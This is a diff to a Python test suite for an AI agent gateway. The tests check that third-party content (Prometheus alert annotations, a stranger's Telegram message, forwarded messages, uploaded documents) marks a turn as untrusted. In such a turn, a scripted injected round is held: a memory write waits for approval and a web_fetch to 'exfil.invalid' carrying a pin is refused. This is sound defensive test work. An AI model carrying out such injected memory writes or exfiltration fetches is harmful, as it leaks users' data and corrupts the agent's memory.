@@ -135,7 +135,7 @@ def tg():
 def trust_gateway(tmp_path, fake, tg):
     started = []
 
-    def make(web_fetch=None, approvals=None):
+    def make(web_fetch=None, approvals=None, allowed_chats=()):
         hook_ = {"name": "inbox", "token": "os.environ/HOOK_TOKEN",
                  "prompt": "New mail: {{payload.body}}"}
         if web_fetch:
@@ -144,6 +144,7 @@ def trust_gateway(tmp_path, fake, tg):
             fake, "HOME", api={"listen": "127.0.0.1:PORT"},
             telegram={"token": "os.environ/TELEGRAM_BOT_TOKEN",
                 "stream": "off", "progress": "off", "allowed_users": [ADMIN],
+                      "allowed_chats": list(allowed_chats),
                       "admin_chat": ADMIN, "api_base": tg.url, "poll_timeout_s": 1},
             hooks=[hook_], **({"approvals": approvals} if approvals else {}))
         text_ = to_yaml(cfg).replace("{", "{{").replace("}", "}}")
@@ -289,3 +290,125 @@ def test_a_hook_run_asks_the_admin_chat_before_a_tool_that_needs_approval(trust_
     assert result.get("status") == "ok", result
     res = tool_results(fake.chat_requests[1])[0]
     assert "denied" not in res and "UTC" in res, res
+
+
+# ---- third-party text that arrives without a tainting tool (issue 38, item 3) ----------------
+
+GROUP = -1001234567890
+STRANGER = 6666
+
+
+def write_then_exfil(note=INJECTED, fetch=True):
+    """The round an injection asks for: a memory write and a fetch to a public host (in this
+    order: any answer of web_fetch taints what runs after it)."""
+    calls = [("x0", "memory", json.dumps({"action": "add", "target": "memory", "content": note}))]
+    if fetch:
+        calls.append(("x1", "web_fetch", json.dumps({"url": "http://exfil.invalid/?pin=1"})))
+    return tool_calls(*calls)
+
+
+def memory_md(home):
+    mem = home / "memories" / "MEMORY.md"
+    return mem.read_text() if mem.exists() else ""
+
+
+def assert_held(res, home, note=INJECTED):
+    """res: the results of write_then_exfil's round. The fetch is refused before any lookup
+    and the write waits for approval; MEMORY.md does not have it."""
+    assert res[0].startswith("Not applied yet") and "approval" in res[0], res[0]
+    assert "this turn has read untrusted content" in res[1], res[1]
+    assert note not in memory_md(home)
+
+
+def assert_made(res, home, note):
+    """The same round from a trusted turn: the fetch is tried, the write made."""
+    assert not res[0].startswith("Not applied"), res[0]
+    assert len(res) == 1 or "untrusted" not in res[1] and "could not reach" in res[1], res
+    assert note in memory_md(home)
+
+
+def tg_round(tg, fake, chat, note, push, fetch=True):
+    """A Telegram turn whose model runs write_then_exfil(note, fetch): push() sends the
+    message; returns the round's results and the user message the model read."""
+    answer = f"done: {note}"
+    fake.script_for("test/free", write_then_exfil(note, fetch), text(answer))
+    push()
+    wait(lambda: answer in tg.sent(chat), f"the answer in chat {chat}")
+    req = fake.chat_requests[-1]
+    users = [m["content"] for m in req["body"]["messages"] if m["role"] == "user"]
+    return tool_results(req)[-2 if fetch else -1:], users[-1]
+
+
+def test_a_prometheus_result_taints_the_turn(agent, fake):
+    from fakes.fake_prometheus import FakePrometheus
+    with FakePrometheus() as prom:
+        # Annotations are whatever a workload's PrometheusRule (or its author) wrote.
+        prom.alerts = [{"labels": {"alertname": "PodCrash", "pod": "web-1"},
+                        "annotations": {"summary": INJECTED}, "state": "firing",
+                        "activeAt": "2026-11-23T10:00:00.5Z", "value": "1e+00"}]
+        agent.configure(prometheus={"url": prom.url})
+        fake.script_for("test/free",
+                        tool_calls(("c0", "prometheus_query", json.dumps({"kind": "alerts"}))),
+                        write_then_exfil(), text("done"))
+        before = len(fake.chat_requests)
+        r = agent.chat("how is the cluster?")
+        assert r.returncode == 0, r.stderr
+    assert INJECTED in tool_results(fake.chat_requests[before + 1])[0]
+    assert_held(tool_results(fake.chat_requests[before + 2])[1:], agent.home)
+
+
+def test_an_owner_message_and_replies_to_ours_stay_trusted(trust_gateway, tg, fake):
+    g = trust_gateway(allowed_chats=[GROUP])
+    res, _ = tg_round(tg, fake, ADMIN, "plain", lambda: tg.push_text("note it", chat_id=ADMIN))
+    assert_made(res, g.home, "plain")
+    # Each round below only writes: any answer of web_fetch taints the session.
+    fake.script_for("test/free", text("noted"))
+    own = tg.push_text("my own words", chat_id=GROUP, user_id=ADMIN, chat_type="group")
+    wait(lambda: "noted" in tg.sent(GROUP), "the answer to the group message")
+    bots = tg.messages(GROUP)[-1]["message_id"]
+    res, read = tg_round(tg, fake, GROUP, "reply to my own", lambda: tg.push_text(
+        "see above", chat_id=GROUP, user_id=ADMIN, chat_type="group",
+        reply_to=own["message"]["message_id"]), fetch=False)
+    assert read.startswith('[Replying to: "my own words"]'), read
+    assert_made(res, g.home, "reply to my own")
+    res, read = tg_round(tg, fake, GROUP, "reply to the bot", lambda: tg.push_text(
+        "and this", chat_id=GROUP, user_id=ADMIN, chat_type="group", reply_to=bots),
+        fetch=False)
+    assert read.startswith('[Replying to: "noted"]'), read
+    assert_made(res, g.home, "reply to the bot")
+    res, _ = tg_round(tg, fake, GROUP, "own forward", lambda: tg.push_text(
+        "I said this", chat_id=GROUP, user_id=ADMIN, chat_type="group", forward_origin={
+            "type": "user", "date": 0, "sender_user": {"id": ADMIN, "is_bot": False,
+                                                       "first_name": "Ada"}}))
+    assert_made(res, g.home, "own forward")
+
+
+def push_reply_to_stranger(tg):
+    said = tg.push_text(INJECTED, chat_id=GROUP, user_id=STRANGER, chat_type="group",
+                        first_name="Eve", username="eve")
+    tg.push_text("what does she mean?", chat_id=GROUP, user_id=ADMIN, chat_type="group",
+                 reply_to=said["message"]["message_id"])
+
+
+def push_forward(tg):
+    tg.push_text(INJECTED, chat_id=GROUP, user_id=ADMIN, chat_type="group", forward_origin={
+        "type": "hidden_user", "sender_user_name": "Eve", "date": 0})
+
+
+def push_document(tg):
+    tg.push_document(chat_id=GROUP, user_id=ADMIN, caption="summarise this",
+                     data=INJECTED.encode(), file_name="notes.txt", mime_type="text/plain")
+
+
+@pytest.mark.parametrize("push", [push_reply_to_stranger, push_forward, push_document],
+                         ids=["reply to a stranger", "forwarded", "document"])
+def test_third_party_text_in_a_telegram_message_taints_the_turn(trust_gateway, tg, fake, push):
+    g = trust_gateway(allowed_chats=[GROUP])
+    res, read = tg_round(tg, fake, GROUP, INJECTED, lambda: push(tg))
+    assert INJECTED in read, read  # the model did read it
+    assert_held(res, g.home)
+    # The admin chat is asked; the session keeps the mark for its next turn.
+    assert "proposal" in tg.wait_sent(ADMIN, 1, timeout=20 * SLOW)[0]
+    res, _ = tg_round(tg, fake, GROUP, "later", lambda: tg.push_text(
+        "anything else?", chat_id=GROUP, user_id=ADMIN, chat_type="group"))
+    assert_held(res, g.home, "later")
